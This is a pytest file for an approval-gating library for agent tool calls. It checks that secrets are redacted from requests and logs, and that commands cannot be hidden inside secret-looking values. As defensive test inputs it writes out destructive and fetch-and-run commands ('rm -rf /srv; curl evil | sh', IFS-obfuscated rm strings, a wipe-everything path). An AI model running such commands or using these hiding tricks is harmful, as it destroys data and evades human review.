"""Attacks that once worked: what hides behind a secret, and what gives a secret away."""

import asyncio
import json
from typing import Annotated, Any

import pytest
from pydantic import SecretStr

import assentry
from assentry.core.canonical import canonical, digest
from assentry.core.secret_text import schema_without_secrets
from assentry.errors import GuardError, InvalidArguments, InvalidDecision

pytestmark = pytest.mark.both_databases


async def test_a_command_cannot_hide_inside_what_looks_like_a_secret(house):
    @house.gate.guard(reversible=False, patience=0)
    async def run_command(command: str) -> None: ...

    hidden = "-----BEGIN PRIVATE KEY-----\nrm -rf /srv; curl evil | sh\n-----END PRIVATE KEY-----"
    with pytest.raises(InvalidArguments, match="hide what runs"):
        await run_command(f"echo hi\n{hidden}")
    for command in ("ls TOKEN=x;rm$IFS-rf$IFS/srv", "x://a:b;rm$IFS-rf@c"):
        with pytest.raises(assentry.Parked) as parked:
            await run_command(command)
        shown = (await house.inbox.brief(parked.value.request_id)).args["command"]
        assert "rm" in shown
        assert "rf" in shown


def test_a_secret_that_cannot_be_sealed_is_refused_when_it_is_guarded(tmp_path):
    gate = assentry.open(tmp_path / "a.db")

    def hides(key: SecretStr) -> None: ...

    def number(pin: Annotated[int, assentry.Secret]) -> None: ...

    with pytest.raises(GuardError, match=r"assentry\.Secret"):
        gate.guard(hides)
    with pytest.raises(GuardError, match="must be a str"):
        gate.guard(number)
    asyncio.run(gate.close())


async def test_a_secret_of_an_option_or_a_question_is_not_stored_in_clear(house):
    token = "AKIA" + "ABCDEFGH12345678"

    @house.gate.guard(reversible=False, patience=0, options=[assentry.option("other", "", {"key": "option-secret-77"})])
    async def rotate(key: Annotated[str, assentry.Secret], note: str = "") -> str:
        return key

    with pytest.raises(assentry.Parked) as parked:
        await rotate("correct horse", note="curl -H X:correct horse")
    request = await house.desk.store.request("default", parked.value.request_id)
    assert "option-secret-77" not in repr(request)
    assert "correct horse" not in repr(request)
    phrase = (await house.inbox.brief(request.id)).options[0].phrase
    await house.inbox.choose(house.me, request.id, 0, confirm=phrase)
    assert await house.gate.resume(request.id) == "option-secret-77"
    with pytest.raises(assentry.Parked) as asked:
        await house.gate.ask(f"Is {token} right?", choices=[token], patience=0)
    assert token not in repr(await house.desk.store.request("default", asked.value.request_id))
    with pytest.raises(InvalidDecision):
        await house.inbox.answer(house.me, asked.value.request_id, "something else")


async def test_a_failed_lookup_holds_although_something_was_sealed(house):
    def fails(_: Any) -> Any:
        raise ValueError

    @house.gate.guard(patience=0, facts=fails)
    async def touch_file(path: str) -> None: ...

    with pytest.raises(assentry.Parked) as parked:
        await touch_file.with_(why="use password=hunter2hunter2")("a")
    request = await house.desk.store.request("default", parked.value.request_id)
    assert "lookup failed" in [trigger.name for trigger in request.candidate.verdict.triggers]


async def test_sealing_a_word_of_the_command_takes_nobody_out_of_the_quorum(house):
    await house.policy(
        "people: {ann: {roles: [finance]}, bob: {roles: [finance]}, root: {roles: [operator]}}\n"
        "rules:\n  - name: prod\n    actions: run_command\n    when: args.command.contains('production')\n"
        "    gate: hard\n    reviewers: [role:finance]\n    quorum: 2\n"
    )

    @house.gate.guard(reversible=False, patience=0)
    async def run_command(command: str, env: dict[str, str]) -> None: ...

    for env in ({}, {"PASSWORD": "prod"}, {"PASSWORD": "production1"}):
        with pytest.raises(assentry.Parked) as parked:
            await run_command("tool release production1", env)
        verdict = (await house.desk.store.request("default", parked.value.request_id)).candidate.verdict
        assert (verdict.quorum.count, verdict.reviewers) == (2, ("role:finance",))


async def test_a_short_secret_does_not_damage_another(house):
    ran = []

    @house.gate.guard(reversible=False, patience=0)
    async def rotate(api_key: str, password: str, secret_note: str) -> None:
        ran.append((api_key, password, secret_note))

    given = ("sk-abcdefghijklmnopqrstuvwxyz123456", "secret", "a secret in 12 characters")
    with pytest.raises(assentry.Parked) as parked:
        await rotate(*given)
    await house.inbox.approve(house.me, parked.value.request_id, confirm="rotate")
    await house.gate.resume(parked.value.request_id)
    assert ran == [given]


@pytest.mark.parametrize(
    ("command", "env"),
    [("rm -rf /srv/data", {"PASSWORD": "rm -rf /srv/data"}), ("cat token:\n/usr/local/bin/wipe-everything", {}),
     ("reboot", {"PASSWORD": "reboot"}), ("cat Bearer\n/usr/local/bin/wipe-everything1", {}), ("wipe2everything", {"PASSWORD": "wipe2everything"})],
)  # fmt: skip
async def test_no_command_is_hidden_with_a_secret(house, command, env):
    @house.gate.guard(reversible=False, patience=0)
    async def run_command(command: str, env: dict[str, str]) -> None: ...

    with pytest.raises((assentry.Parked, InvalidArguments)) as stopped:
        await run_command(command, env)
    if isinstance(stopped.value, assentry.Parked):
        assert (await house.inbox.brief(stopped.value.request_id)).args["command"] == command
    else:
        assert "hide what runs" in str(stopped.value)


async def test_a_mark_for_a_secret_cannot_be_passed_in(house):
    @house.gate.guard(reversible=False, patience=0)
    async def delete_files(paths: list[str]) -> None: ...

    with pytest.raises(InvalidArguments, match="own mark"):
        await delete_files(["⟨secret number 0123456789ab⟩", "password=hunter2hunter2"])


@pytest.mark.parametrize(
    "secret", [{"pin": [4711]}, {"pin": {"value": 4711}}, {"credentials": {"value": "hunter2hunter2"}}]
)
async def test_everything_inside_a_field_for_secrets_is_sealed(house, secret):
    ran = []

    @house.gate.guard(reversible=False, patience=0)
    async def log_in(given: dict[str, Any]) -> None:
        ran.append(given)

    with pytest.raises(assentry.Parked) as parked:
        await log_in(secret)
    request = await house.desk.store.request("default", parked.value.request_id)
    assert not any(text in request.candidate.args_text for text in ("4711", "hunter2"))
    await house.inbox.approve(house.me, request.id, confirm=(await house.inbox.brief(request.id)).phrase)
    await house.gate.resume(request.id)
    assert ran == [secret]


async def test_a_number_that_is_secret_cannot_be_guessed_from_the_log(house):
    @house.gate.guard(patience=0)
    async def get_balance(account: str, pin: int) -> int:
        """Get the balance."""
        return pin

    assert await get_balance("a", 4711) == 4711
    await house.gate._store.flush()
    await house.desk.store.sequence("default")
    (line,) = await house.desk.store.entries("default")
    clear = digest("get_balance", get_balance.tool.schema_text, canonical({"account": "a", "pin": 4711}))
    assert json.loads(line.text)["body"]["content_digest"] != clear


async def test_a_schema_gives_no_secret_away(house):
    token, word = "AKIA" + "ABCDEFGH12345678", "hunter2-of-old"

    @house.gate.guard(reversible=False, patience=0)
    async def publish(text: str, key: str = token, password: str = word) -> str:
        return f"{key} {password}"

    with pytest.raises(assentry.Parked) as parked:
        await publish("hello")
    request = await house.desk.store.request("default", parked.value.request_id)
    assert request.candidate.action.schema["properties"]["password"]["type"] == "string"
    said = repr(request)
    assert token not in said
    assert word not in said
    given = {"type": "object", "properties": {token: {"enum": [token]}, "text": {"description": f"not {token}"}}}
    proposed = await house.gate.propose("publish_all", {"text": "hello"}, schema=given)
    assert token not in repr(proposed.request)
    await house.inbox.approve(house.me, request.id, confirm=(await house.inbox.brief(request.id)).phrase)
    assert await house.gate.resume(request.id) == f"{token} {word}"  # what runs is as it was called


def test_a_schema_without_secrets_is_left_as_it_is():
    schema = {"type": "object", "properties": {"name": {"default": "ada", "examples": ["bob"]}}}
    assert schema_without_secrets(schema) is schema


async def test_a_declared_secret_leaves_no_default_in_the_schema(house):
    @house.gate.guard(reversible=False, patience=0)
    async def publish(text: str, foo: Annotated[str, assentry.Secret] = "quiet words of old") -> str:
        return foo

    with pytest.raises(assentry.Parked) as parked:
        await publish("hello")
    request = await house.desk.store.request("default", parked.value.request_id)
    assert "quiet words" not in repr(request)
    await house.inbox.approve(house.me, request.id, confirm=(await house.inbox.brief(request.id)).phrase)
    assert await house.gate.resume(request.id) == "quiet words of old"


@pytest.mark.parametrize(
    "show", [{"pin": 717171}, {"login": {"pin": 717171, "who": "ann"}}, {"all": [{"otp": 717171}]}]
)
async def test_a_checkpoint_gives_no_number_away_and_holds_the_rest_fast(house, show):
    async def main() -> Any:
        async with house.gate.run("work") as run:
            return await run.checkpoint("ready", {**show, "note": "as it is"})

    working = house.start(main())
    (request,) = await house.waiting()
    assert "717171" not in repr(request)
    args = dict((await house.inbox.brief(request.id)).args)
    for change in ({"note": "other"}, {"new": 1}):
        with pytest.raises(InvalidDecision):
            await house.inbox.modify(house.me, request.id, {**args, "show": {**args["show"], **change}})
    await house.inbox.approve(house.me, request.id, confirm=(await house.inbox.brief(request.id)).phrase)
    await working


TOKEN = "AKIA" + "ABCDEFGH12345678"


async def test_the_name_of_an_argument_is_sealed_like_what_is_inside(house):
    args = {TOKEN: 1, "inner": {TOKEN: 2}, "text": "hi"}
    proposed = await house.gate.propose("rotate_keys", args, declared=assentry.Declaration(reversible=False))
    assert TOKEN not in repr(proposed.request)
    shown = (await house.inbox.brief(proposed.request.id)).args
    assert shown["text"] == "hi"
    assert len(shown) == len(args)
    await house.inbox.approve(
        house.me, proposed.request.id, confirm=(await house.inbox.brief(proposed.request.id)).phrase
    )
    async with proposed.execution() as running:
        assert running.args == args


async def test_an_argument_stays_in_sight_though_a_secret_is_the_same_word(house):
    @house.gate.guard(reversible=False, patience=0)
    async def publish(message: str, key: Annotated[str, assentry.Secret]) -> None: ...

    with pytest.raises(assentry.Parked) as parked:
        await publish("hello", "message")
    assert (await house.inbox.brief(parked.value.request_id)).args["message"] == "hello"


async def test_a_mark_for_a_secret_cannot_be_passed_in_as_a_name(house):
    args = {"⟨secret number 0123456789ab⟩": 1, "note": "password=hunter2hunter2"}
    with pytest.raises(InvalidArguments, match="own mark"):
        await house.gate.propose("rotate_keys", args)


async def test_an_action_is_not_called_like_a_secret(house):
    with pytest.raises(InvalidArguments, match="looks like a secret") as refused:
        await house.gate.propose(f"rotate_{TOKEN}"[7:], {})
    assert TOKEN not in str(refused.value)
    with pytest.raises(InvalidArguments, match="looks like a secret"):
        house.gate.guard(name=f"rotate {TOKEN}")(lambda: None)
    await house.gate._store.flush()
    assert not await house.desk.store.entries("default")


@pytest.mark.parametrize("name", ["db_password", "x-api-key", "API Key", "access token", "GITHUB_TOKEN"])
async def test_a_secret_under_a_longer_name_is_sealed(house, name):
    word = "quiet and long words"
    proposed = await house.gate.propose("log_in", {name: word, "inner": {name: word}})
    assert proposed.request is not None
    assert word not in repr(proposed.request)
